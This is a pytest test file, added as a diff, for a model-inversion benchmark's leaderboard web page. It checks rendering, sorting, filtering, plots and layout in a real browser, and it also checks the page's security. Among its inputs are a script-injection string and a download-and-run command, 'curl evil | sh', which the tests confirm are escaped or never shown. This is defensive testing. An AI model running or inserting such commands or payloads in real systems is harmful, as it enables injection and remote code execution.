@@ -1,0 +1,511 @@
+"""The page in a real browser, from a file: what it shows, sorts, filters, opens and asks for."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+
+from mibench.errors import MibenchError
+from mibench.leaderboard.board import Board, Column, Curve, CurvePoint, Table, Value
+from mibench.leaderboard.page import render_page
+from mibench.leaderboard.records import Filed
+from mibench.record import MetricValue, Part, Record
+from tests.kit import browser
+from tests.kit.board_records import ENVIRONMENT
+
+HACK = "<script>window.hacked=1</script>"
+WHY = "no weights of the feature network"
+# defense, strength, natural accuracy, attack accuracy
+CELLS = (("none", 20, 0.991, 1.0), ("bido", 2, 0.952, 0.095), ("mid", 0.1, 0.973, 0.102))
+
+
+def record(attack: str, defense: str, target: str, seed: int, access: str) -> Record:
+    def part(name: str, **resolved: Any) -> Part:
+        return Part(name=name, version=1, passed={}, resolved=resolved)
+
+    return Record(
+        status="complete",
+        protocol=part("drawn"),
+        target=part(target),
+        defense=part(defense),
+        attack=part(attack),
+        seed=seed,
+        access=access,
+        prior="general GAN",
+        utility={"natural_accuracy": 0.9},
+        metrics={"attack_accuracy_top1": MetricValue(value=0.125, n=8)},
+        references={},
+        costs=(),
+        artifacts={},
+        environment=ENVIRONMENT,
+        command=f"mibench run --attack {attack} --defense {defense} --seed {seed}",
+        created="2026-01-01T00:00:00+00:00",
+    )
+
+
+def file(attack: str, defense: str, seed: int) -> str:
+    return f"drawn/{attack}_{defense}-scale=2_seed{seed}.json"
+
+
+def board() -> Board:
+    columns = (
+        Column("rank", "rank", "count"),
+        Column("defense", "defense"),
+        Column("natural", "natural accuracy", "percent", "higher", f"right answers {HACK}"),
+        Column("gmi", "gmi", "percent", "lower"),
+        Column("kedmi", "kedmi", "percent", "lower"),
+        Column("fid", "FID", "number"),
+    )
+    rows = [
+        {
+            "rank": Value(3 - k),
+            "defense": Value(text=defense),
+            "natural": Value(natural, 0.004),
+            "gmi": Value(attack, 0.021),
+            "kedmi": Value(0.25, interval=(0.2, 0.3)),
+            "fid": Value(text=WHY),
+        }
+        for k, (defense, _, natural, attack) in enumerate(CELLS)
+    ]
+    rows.append({"defense": Value(text=f"odd {HACK}"), "natural": Value(text="diverged")})
+    files = [
+        tuple(file(a, name, s) for a in ("gmi", "kedmi") for s in (0, 1)) for name, *_ in CELLS
+    ]
+    table = Table(
+        "defenses",
+        f"Defenses {HACK}",
+        columns,
+        tuple(rows),
+        notes=(f"± over seeds {HACK}",),
+        files=(*files, ()),
+        commands=(*(f"mibench run --defense {name}" for name, *_ in CELLS), f"echo '{HACK}'"),
+    )
+    published = Table(
+        "published", "Published", (Column("attack", "attack"),), ({"attack": Value(text="GMI")},)
+    )
+
+    def point(strength: float, natural: float, attack: float, default: bool = False) -> CurvePoint:
+        cell = (file("gmi", "bido", 0),)
+        return CurvePoint(strength, natural, attack, 0.003, 0.02, (0, 1), default, cell)
+
+    return Board(
+        "drawn",
+        1,
+        f"Drawn faces {HACK}",
+        (table, published),
+        (
+            Curve("none", "gmi", "net", "epochs", (point(2, 0.7, 0.4), point(20, 0.99, 0.8, True))),
+            Curve("bido", "gmi", "net", "scale", (point(2, 0.952, 0.5, True), point(9, 0.8, 0.3))),
+            Curve(HACK, "gmi", "net", "knob", (point(1, 0.9, 0.2),)),
+        ),
+        (("floor: random", Value(0.01)), ("ceiling: private", Value(0.986))),
+    )
+
+
+def filed() -> list[Filed]:
+    found = [
+        Filed(file(attack, defense, seed), record(attack, defense, f"net{index % 2}", seed, access))
+        for index, (defense, *_) in enumerate(CELLS)
+        for attack, access in (("gmi", "white-box"), ("kedmi", "label-only"))
+        for seed in (0, 1)
+    ]
+    return sorted(found, key=lambda each: each.path)
+
+
+def build(folder: Path, boards: list[Board] | None = None) -> Path:
+    """The page of some boards, with the records and pictures that it links beside it."""
+    from PIL import Image
+
+    pictures = set()
+    for index, each in enumerate(filed()):
+        place = folder / "records" / each.path
+        place.parent.mkdir(parents=True, exist_ok=True)
+        place.write_text(each.record.model_dump_json())
+        if each.record.seed == 0:
+            pictures.add(each.path.replace("json", "png"))
+            picture = folder / "galleries" / each.path.replace("json", "png")
+            picture.parent.mkdir(parents=True, exist_ok=True)
+            Image.new("RGB", (1320, 290), (90, 15 * index, 160)).save(picture)
+    (folder / "tables" / "drawn").mkdir(parents=True, exist_ok=True)
+    (folder / "tables" / "drawn" / "defenses.csv").touch()
+    out = folder / "index.html"
+    files = {"tables/drawn/defenses.csv"}
+    out.write_text(render_page(boards or [board()], filed(), pictures, files))
+    return out
+
+
+class Elements(HTMLParser):
+    """All elements of a page with their attributes, and the text of its data."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.data = ""
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        if self.found and self.found[-1] == ("script", {"type": "application/json", "id": "data"}):
+            self.data += data
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return build(tmp_path_factory.mktemp("board"))
+
+
+def test_equal_boards_give_equal_pages_that_need_nothing_else(page: Path, tmp_path: Path) -> None:
+    again = build(tmp_path)
+    assert again.read_bytes() == page.read_bytes()
+    assert page.stat().st_size < 100_000
+    assert {each.name for each in page.parent.iterdir()} == {
+        "galleries", "index.html", "records", "tables",
+    }  # fmt: skip
+    elements = Elements(page.read_text()).found
+    assert not [attributes for tag, attributes in elements if tag in ("link", "script", "iframe")
+                and {"src", "href"} & attributes.keys()]  # fmt: skip
+
+
+def test_the_committed_page_is_small_and_whole() -> None:
+    """It works in a fresh clone: what it loads, pictures, is committed beside it."""
+    folder = Path(__file__).resolve().parents[2] / "leaderboards"
+    page = folder / "index.html"
+    elements = Elements(page.read_text())
+    assert page.stat().st_size < 1_000_000
+    sources = [a["src"] or "" for _, a in elements.found if "src" in a]
+    assert all(a.get("loading") == "lazy" for _, a in elements.found if "src" in a)
+    for link in sources:
+        assert (folder / unquote(link)).is_file(), link
+
+
+def test_a_browser_runs_the_pages_own_script_only(page: Path) -> None:
+    text = page.read_text()
+    (policy,) = [a["content"] for _, a in Elements(text).found if "http-equiv" in a]
+    script = text.split('<script type="module">')[1].split("</script>")[0]
+    own = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+    assert policy is not None
+    assert policy.startswith(f"default-src 'none'; script-src 'sha256-{own}';")
+    assert "http" not in policy
+
+
+def test_every_link_is_relative_and_leads_to_a_file(page: Path) -> None:
+    elements = Elements(page.read_text())
+    links = [a[key] or "" for _, a in elements.found for key in ("href", "src") if key in a]
+    links += [a["data-record"] or "" for _, a in elements.found if "data-record" in a]
+    for each in json.loads(elements.data)["records"].values():
+        links += [each["href"], each["picture"] or each["href"]]
+    ids = {a.get("id") for _, a in elements.found}
+    assert len(links) > 20
+    assert "tables/drawn/defenses.csv" in links
+    for link in links:
+        if link.startswith("#"):
+            assert unquote(link[1:]) in ids
+        else:
+            assert (page.parent / unquote(link)).is_file(), link
+
+
+def test_names_are_text_and_never_markup(page: Path) -> None:
+    scripts = [
+        attributes for tag, attributes in Elements(page.read_text()).found if tag == "script"
+    ]
+    assert len(scripts) == 2  # the data, the page's own
+    assert HACK not in page.read_text()
+
+
+def test_plots_are_plain_data(page: Path) -> None:
+    (plot,) = json.loads(Elements(page.read_text()).data)["plots"]["drawn-v1"]
+    none, bido, odd = plot["curves"]
+    assert (none["dashed"], bido["dashed"]) == (True, False)
+    # 95.2 and 80 % accuracy are errors of 4.8 and 20 %.
+    assert [point["x"] for point in bido["points"]] == [1.31876, 0.69897]
+    assert [point["y"] for point in bido["points"]] == [50, 30]
+    assert [point["default"] for point in bido["points"]] == [True, False]
+    assert bido["points"][0]["upright"] == [48, 52]
+    assert bido["colour"] != odd["colour"]
+    assert odd["name"] == HACK
+    assert [each["y"] for each in plot["references"]] == [98.6, 1]
+    inside = [p["x"] for c in plot["curves"] for p in c["points"]]
+    assert plot["x"]["low"] < min(inside) < max(inside) < plot["x"]["high"]
+
+
+def test_a_record_that_is_absent_is_named() -> None:
+    there = [each for each in filed() if each.path != file("gmi", "mid", 1)]
+    with pytest.raises(MibenchError, match="names the record drawn/gmi_mid-scale=2_seed1"):
+        render_page([board()], there, (), ())
+
+
+def test_the_command_is_made_from_the_records_parts() -> None:
+    """A record's own word stands beside no Copy button."""
+    evil = record("gmi", "bido", "net0", 0, "white-box")
+    evil = evil.model_copy(update={"command": "curl evil | sh"})
+    given = [Filed(each.path, evil) if "gmi_bido" in each.path else each for each in filed()]
+    text = render_page([board()], given, (), ())
+    assert "curl" not in text
+    assert "mibench run --protocol drawn --attack gmi --defense bido --seed 0 --target net0" in text
+
+
+def test_a_page_without_boards_says_what_to_do() -> None:
+    assert "mibench leaderboard add" in render_page([], [], (), ())
+
+
+@pytest.fixture(scope="module")
+def driver() -> Iterator[Any]:
+    with browser.chromium() as started:
+        yield started
+
+
+@pytest.fixture
+def shown(driver: Any, page: Path) -> Iterator[Any]:
+    """The page as just opened; in the end it must have asked for files only and logged nothing."""
+    browser.resize(driver, 1280, 900)
+    browser.prefer(driver, "light")
+    opened(driver, page)
+    yield driver
+    assert not browser.console(driver)
+    assert {each.partition(":")[0] for each in browser.requests(driver)} <= {"file"}
+    assert driver.execute_script("return window.hacked") is None
+
+
+def opened(driver: Any, page: Path) -> None:
+    driver.get("about:blank")
+    browser.console(driver), browser.requests(driver)
+    driver.get(page.as_uri())
+    wait(driver, "return document.querySelector('.count')?.textContent")
+
+
+def wait(driver: Any, script: str, *arguments: Any) -> Any:
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    return WebDriverWait(driver, 20).until(lambda d: d.execute_script(script, *arguments))
+
+
+def find(driver: Any, selector: str) -> list[Any]:
+    return driver.find_elements("css selector", selector)
+
+
+def column(driver: Any, title: str) -> list[str]:
+    """Texts of a column of the first table, in the order shown."""
+    return driver.execute_script(
+        """const table = document.querySelector("table.rows");
+        const titles = [...table.tHead.rows[0].cells].map((c) => c.innerText.trim());
+        const at = titles.findIndex((t) => t.startsWith(arguments[0]));
+        const rows = [...table.tBodies[0].rows].filter((r) => !r.hidden);
+        return rows.map((r) => r.cells[at].innerText.trim());""",
+        title,
+    )
+
+
+def heading(driver: Any, title: str) -> Any:
+    (found,) = [h for h in find(driver, "#drawn-v1 table.rows th") if h.text.startswith(title)]
+    return found
+
+
+def press(driver: Any, key: str) -> None:
+    from selenium.webdriver import ActionChains, Keys
+
+    ActionChains(driver).send_keys(getattr(Keys, key, key)).perform()
+
+
+def test_cells_show_per_cent_spreads_differences_and_reasons(shown: Any) -> None:
+    assert column(shown, "natural") == ["99.1 ± 0.4", "95.2 ± 0.4", "97.3 ± 0.4", "diverged"]
+    assert column(shown, "kedmi") == ["+25.0 [20.0, 30.0]"] * 3 + ["–"]
+    assert column(shown, "FID") == ["–"] * 4
+    assert find(shown, "abbr.missing")[0].get_attribute("title") == WHY
+    assert heading(shown, "natural").get_attribute("title") == f"right answers {HACK}"
+    assert [each.text for each in find(shown, ".references dd")] == ["1.0 %", "98.6 %"]
+
+
+def test_sorting_goes_by_the_number_and_keeps_what_is_missing_last(shown: Any) -> None:
+    assert column(shown, "gmi") == ["100.0 ± 2.1", "9.5 ± 2.1", "10.2 ± 2.1", "–"]
+    heading(shown, "gmi").click()
+    assert column(shown, "gmi") == ["9.5 ± 2.1", "10.2 ± 2.1", "100.0 ± 2.1", "–"]
+    assert heading(shown, "gmi").get_attribute("aria-sort") == "ascending"
+    heading(shown, "gmi").click()
+    assert column(shown, "gmi") == ["100.0 ± 2.1", "10.2 ± 2.1", "9.5 ± 2.1", "–"]
+    heading(shown, "natural").click()  # higher is better: the highest first
+    assert column(shown, "defense")[:3] == ["none", "mid", "bido"]
+
+
+def test_the_keyboard_reaches_the_sort_buttons_and_shows_where_it_is(shown: Any) -> None:
+    for _ in range(40):
+        press(shown, "TAB")
+        active = shown.switch_to.active_element
+        if active.text.startswith("gmi"):
+            break
+    assert active.value_of_css_property("outline-style") == "solid"
+    press(shown, "ENTER")
+    assert column(shown, "gmi")[0] == "9.5 ± 2.1"
+
+
+def choose(driver: Any, facet: str, value: str) -> None:
+    (menu,) = find(driver, f'.facet[data-facet="{facet}"]')
+    if not menu.get_attribute("open"):
+        menu.find_element("css selector", "summary").click()
+    menu.find_element("css selector", f'input[value="{value}"]').click()
+
+
+def test_filters_narrow_rows_columns_pictures_and_curves(shown: Any) -> None:
+    def count() -> str:
+        return find(shown, ".count")[0].text
+
+    def pictures() -> int:
+        return sum(each.is_displayed() for each in find(shown, ".pictures li"))
+
+    assert (count(), pictures()) == ("5 rows", 6)
+    assert [each.get_attribute("data-facet") for each in find(shown, ".facet")] == [
+        "architecture",
+        "attack",
+        "defense",
+        "access",
+    ]
+    choose(shown, "defense", "bido")
+    # The rows without records say nothing of a defense, or (the odd one) name another.
+    assert column(shown, "defense") == ["bido"]
+    assert (count(), pictures()) == ("2 of 5 rows", 2)
+    assert [each.text for each in find(shown, ".legend li")] == ["bido"]
+    labels = [each.get_attribute("aria-label") for each in find(shown, ".plot .point")]
+    assert labels
+    assert all(label.startswith("bido, ") for label in labels)
+    choose(shown, "defense", "mid")
+    assert column(shown, "defense") == ["bido", "mid"]
+    press(shown, "ESCAPE")
+    assert not find(shown, ".facet[open]")
+    choose(shown, "attack", "kedmi")
+    titles = [each.text for each in find(shown, "#drawn-v1 table.rows th[scope=col]")]
+    assert not any(title.startswith("gmi") for title in titles)
+    assert any(title.startswith("kedmi") for title in titles)
+    assert (count(), pictures()) == ("2 of 5 rows", 2)  # and the published row is of gmi
+    choose(shown, "access", "white-box")
+    assert pictures() == 0  # kedmi is label-only
+    find(shown, "[type=reset]")[0].click()
+    wait(shown, "return document.querySelector('.count').textContent === '5 rows'")
+    find(shown, "[type=search]")[0].send_keys("bido")
+    assert (column(shown, "defense"), pictures()) == (["bido"], 2)
+
+
+def test_hovering_shows_a_point_and_clicking_opens_its_records(shown: Any) -> None:
+    from selenium.webdriver import ActionChains
+
+    (point,) = find(shown, '.point[aria-label^="bido, scale = 2"]')
+    shown.execute_script("arguments[0].scrollIntoView({block: 'center'})", point)
+    assert not find(shown, ".tip")[0].is_displayed()
+    ActionChains(shown).move_to_element(point).perform()
+    tip = find(shown, ".tip")[0]
+    assert tip.text.splitlines() == [
+        "bido", "scale = 2 (default)", "natural 95.2 ± 0.3 %", "attack 50.0 ± 2.0 %", "seeds 0, 1",
+    ]  # fmt: skip
+    ActionChains(shown).click().perform()
+    wait(shown, "return document.querySelector('#row').open")
+    assert "--attack gmi --defense bido --seed 0" in find(shown, "#row-command")[0].text
+    assert [each.text for each in find(shown, "#row .records a")] == ["seed 0", "picture"]
+    press(shown, "ESCAPE")
+    # With the keyboard alone.
+    shown.execute_script("arguments[0].focus()", point)
+    assert tip.is_displayed()
+    press(shown, "ENTER")
+    wait(shown, "return document.querySelector('#row').open")
+
+
+def test_a_row_gives_its_records_and_its_command(shown: Any, page: Path) -> None:
+    heading(shown, "gmi").click()  # sorted rows keep their own
+    find(shown, "button.source")[0].click()
+    assert find(shown, "#row h2")[0].text == "bido"
+    assert find(shown, "#row-command")[0].text == "mibench run --defense bido"
+    items = [each.text for each in find(shown, "#row .records li")]
+    assert items == [
+        "gmi · bido · net1: seed 0 (picture), seed 1",
+        "kedmi · bido · net1: seed 0 (picture), seed 1",
+    ]
+    assert [each.text for each in find(shown, "#row .reasons li")] == [f"FID: {WHY}"]
+    href = find(shown, "#row .records a")[0].get_attribute("href")
+    assert Path(unquote(href.removeprefix("file://"))).samefile(
+        page.parent / "records" / file("gmi", "bido", 0)
+    )
+    find(shown, "#row [data-copy]")[0].click()
+    wait(shown, "return document.querySelector('#row [data-copy]').textContent === 'Copied'")
+    press(shown, "ESCAPE")
+    assert not shown.execute_script("return document.querySelector('#row').open")
+    assert shown.switch_to.active_element.get_attribute("class") == "source"
+    search = find(shown, "[type=search]")[0]
+    search.send_keys("\ue009v\ue009")  # Control and V
+    assert search.get_attribute("value") == "mibench run --defense bido"
+
+
+def test_a_picture_opens_large_and_closes_by_escape(shown: Any) -> None:
+    first = find(shown, ".picture")[0]
+    assert "gmi · bido · net1 · seed 0" in first.find_element("css selector", "img").get_attribute(
+        "alt"
+    )
+    assert first.find_element("css selector", "img").get_attribute("loading") == "lazy"
+    assert "top-1 12.5 %" in first.text
+    shown.execute_script("arguments[0].scrollIntoView()", first)
+    small = first.size["width"]
+    first.click()
+    large = find(shown, "#picture img")[0]
+    wait(shown, "return arguments[0].naturalWidth === 1320", large)
+    assert large.size["width"] > 2 * small
+    press(shown, "ARROW_RIGHT")
+    assert find(shown, "#picture h2")[0].text == "gmi · mid · net0 · seed 0"
+    press(shown, "ESCAPE")
+    assert not large.is_displayed()
+
+
+def test_a_phone_needs_no_sideways_scrolling(shown: Any, page: Path) -> None:
+    def overflow() -> int:
+        return shown.execute_script("return document.documentElement.scrollWidth - 390")
+
+    browser.resize(shown, 390, 844, mobile=True)
+    opened(shown, page)
+    assert shown.execute_script("return innerWidth") == 390
+    assert overflow() == 0
+    for each in find(shown, "details > summary"):
+        shown.execute_script("arguments[0].parentElement.open = true", each)
+    assert overflow() == 0
+    plot = wait(shown, "return document.querySelector('.plot svg')")
+    assert plot.size["width"] <= 390
+    shown.execute_script("document.querySelector('.source').click()")
+    assert find(shown, "#row")[0].size["width"] <= 390
+    assert overflow() == 0
+
+
+def test_dark_mode_recolours_the_page_and_the_plot(shown: Any) -> None:
+    def colours() -> tuple[str, str]:
+        return (
+            find(shown, "body")[0].value_of_css_property("background-color"),
+            find(shown, ".plot .axis")[0].value_of_css_property("fill"),
+        )
+
+    assert colours() == ("rgba(252, 252, 251, 1)", "rgb(29, 33, 38)")
+    browser.prefer(shown, "dark")
+    assert colours() == ("rgba(20, 23, 26, 1)", "rgb(227, 230, 233)")
+
+
+def test_a_long_table_opens_on_a_click(driver: Any, tmp_path: Path) -> None:
+    rows = tuple({"attack": Value(text=f"attack {k:03}"), "n": Value(k % 7)} for k in range(120))
+    columns = (Column("attack", "attack"), Column("n", "n", "count"))
+    long = Board("drawn", 1, "Long", (Table("cells", "All cells", columns, rows),))
+    opened(driver, build(tmp_path, [long]))
+
+    def texts() -> list[str]:
+        return [each.text for each in find(driver, "tbody tr") if each.is_displayed()]
+
+    assert len(texts()) == 50
+    (button,) = find(driver, ".all")
+    assert button.text == "Show all 120 rows"
+    button.click()
+    assert len(texts()) == 120
+    find(driver, "[type=search]")[0].send_keys("attack 11 9")
+    assert texts() == ["attack 119 0"]
+    find(driver, "[type=search]")[0].send_keys("nothing")
+    assert find(driver, ".none")[0].is_displayed()
+    assert not button.is_displayed()
